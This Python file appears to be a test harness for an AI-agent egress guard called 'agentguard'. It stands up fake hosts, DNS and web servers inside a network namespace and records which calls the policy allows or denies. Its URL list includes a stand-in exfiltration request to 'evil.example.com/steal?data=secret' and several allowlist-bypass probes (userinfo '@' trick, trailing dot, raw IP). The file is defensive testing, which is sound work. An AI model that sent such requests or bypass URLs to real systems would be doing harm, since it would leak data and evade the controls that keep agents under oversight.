"""Runs inside of a network namespace of its own: public addresses on `lo`, a DNS server on loopback, web servers, and a client.

Started by test_agent_config.py as `unshare --net --mount [--map-root-user] python namespace.py POLICY RESOLV_CONF guarded|bare`.
Prints one JSON object of facts; what the servers received is the truth.
"""

from __future__ import annotations

import atexit
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx2

import agentguard

# Real public addresses, reachable by nobody outside of this namespace.
HOSTS = {
    "api.ourservice.com": "93.184.215.14",
    "knowledge.ourservice.com": "93.184.215.15",
    "sub.api.ourservice.com": "93.184.215.16",
    "evil.example.com": "93.184.215.17",
}


class Server(ThreadingHTTPServer):
    """A web server on a public address of this namespace, which counts."""

    def __init__(self, address: str) -> None:
        super().__init__((address, 80), Handler)
        self.calls = 0
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(BaseHTTPRequestHandler):
    """Answers everything, and keeps the connection."""

    protocol_version = "HTTP/1.1"
    wbufsize = 8192  # one packet an answer: two would wait for a delayed acknowledgement

    def do_GET(self) -> None:
        self.server.calls += 1
        self.send_response(200)
        self.send_header("content-length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args: object) -> None:
        """Say nothing."""


def serve_dns() -> None:
    """Answer A questions from the table above, in a process of its own: the guarded one may send no datagrams."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 53))
    child = os.fork()
    if child:
        server.close()
        atexit.register(os.kill, child, signal.SIGKILL)
        return
    while True:
        query, client = server.recvfrom(512)
        labels, at = [], 12
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode())
            at += 1 + query[at]
        question = query[12 : at + 5]
        address = HOSTS.get(".".join(labels).lower()) if question[-4:-2] == b"\0\1" else None
        answers = b"\xc0\x0c\0\1\0\1" + struct.pack(">IH", 60, 4) + socket.inet_aton(address) if address else b""
        known = ".".join(labels).lower() in HOSTS
        flags = 0x8180 if known else 0x8183
        server.sendto(query[:2] + struct.pack(">HHHHH", flags, 1, 1 if answers else 0, 0, 0) + question + answers, client)


def prepare(resolv_conf: str) -> None:
    """Bring the namespace up."""
    for address in ("127.0.0.0/8", *(f"{one}/32" for one in HOSTS.values())):
        if address != "127.0.0.0/8":
            subprocess.run(["ip", "addr", "add", address, "dev", "lo"], check=True)
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    subprocess.run(["mount", "--bind", resolv_conf, "/etc/resolv.conf"], check=True)
    serve_dns()


def outcome(url: str) -> dict[str, object]:
    """What a call to a URL comes to."""
    try:
        return {"status": httpx2.get(url, timeout=30).status_code}
    except agentguard.Denied as denied:
        return {
            "denied": type(denied).__name__,
            "rule": denied.rule,
            "remedy": denied.remedy,
            "message": str(denied),
            "place": denied.decision.place,
        }
    except httpx2.HTTPError as error:
        return {"error": type(error).__name__}


def call_until_refused(url: str, most: int) -> dict[str, object]:
    """Call again and again; how many were admitted, and what ended it."""
    with httpx2.Client(timeout=30) as client:
        for number in range(most):
            try:
                client.get(url)
            except agentguard.RateLimited as limited:
                return {"admitted": number, "retry_after": limited.retry_after, "rule": limited.rule, "message": str(limited)}
    return {"admitted": most}


def main(policy: str, resolv_conf: str, mode: str) -> None:
    """Run every call, and print what came of it."""
    prepare(resolv_conf)
    servers = {name: Server(address) for name, address in HOSTS.items()}
    if mode == "guarded":
        agentguard.instrument(policy, store="memory://")
    urls = {
        "api": "http://api.ourservice.com/customers/1",
        "knowledge": "http://knowledge.ourservice.com/search",
        "below": "http://sub.api.ourservice.com/",
        "evil": "http://evil.example.com/steal?data=secret",
        "address": f"http://{HOSTS['evil.example.com']}/",
        "own address": f"http://{HOSTS['api.ourservice.com']}/",
        "userinfo": "http://api.ourservice.com@evil.example.com/",
        "trailing dot": "http://API.ourservice.com./",
        "llm": "http://evil.example.com/v1/chat/completions",
    }
    facts: dict[str, object] = {name: outcome(url) for name, url in urls.items()}
    before = servers["api.ourservice.com"].calls + servers["knowledge.ourservice.com"].calls
    facts["before"] = before
    facts["rate"] = call_until_refused("http://api.ourservice.com/", 1005 - before)
    facts["received"] = {name: server.calls for name, server in servers.items()}
    for server in servers.values():
        server.shutdown()
        server.server_close()
    agentguard.uninstrument()
    sys.stdout.write(json.dumps(facts))


if __name__ == "__main__":
    Path("/proc/self/comm").read_text(encoding="ascii")  # Linux only: fail early and clearly elsewhere
    main(*sys.argv[1:4])
